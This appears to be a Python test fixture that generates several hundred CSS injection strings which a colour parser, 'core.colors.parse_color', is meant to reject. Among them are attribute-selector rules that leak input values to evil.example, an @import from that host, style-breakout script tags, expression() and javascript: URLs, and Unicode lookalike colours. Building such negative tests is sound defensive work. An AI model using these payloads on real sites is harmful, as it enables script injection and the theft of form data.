"""Five hundred things that try to be more than a color: each must be refused, none may ever reach a style sheet."""

from __future__ import annotations

from itertools import product

_SHELLS = (
    "{}", " {}", "{} ", "#3355cc;{}", "#3355cc}}{}", "#3355cc/*{}*/", "#3355cc\n{}", "#3355cc\x00{}", "\\23 3355cc{}",
    "#3355cc{}", "{}#3355cc", "#{}", "rgb({})", "var(--x,{})",
)  # fmt: skip
_INSIDE = (
    "red", "url(https://evil.example/x)", "url('data:image/svg+xml,<svg/onload=alert(1)>')", "expression(alert(1))",
    "</style><script>alert(1)</script>", "<!--", "-->", "]]>", "@import url(//evil.example)", "@charset 'utf-7'",
    "background:url(javascript:alert(1))", "behavior:url(x.htc)", "-moz-binding:url(x.xml#x)",
    "*{display:none}", "input[value^=a]{background:url(//evil.example/a)}", "html{filter:invert(1)}",
    "transparent", "currentColor", "inherit", "initial", "calc(1px)", "attr(href)", "env(x)", "image-set('x' 1x)",
    "color-mix(in srgb, red, blue)", "rgb(1,2,3)", "rgba(1,2,3,.4)", "hsl(1 2% 3%)", "oklch(1 2 3)", "#3355ccff",
    "#12", "#12345", "#1234567", "#ggg", "0x3355cc", "3355c\u0441", "＃3355cc", "#３３５５cc", "#3355cc!important",
)  # fmt: skip

#: Refused by `core.colors.parse_color`, every one of them.
CSS_PAYLOADS = tuple(
    dict.fromkeys(
        text
        for shell, inside in product(_SHELLS, _INSIDE)
        if (text := shell.format(inside)).strip().lstrip("#") not in {"3355cc"}
    )
)
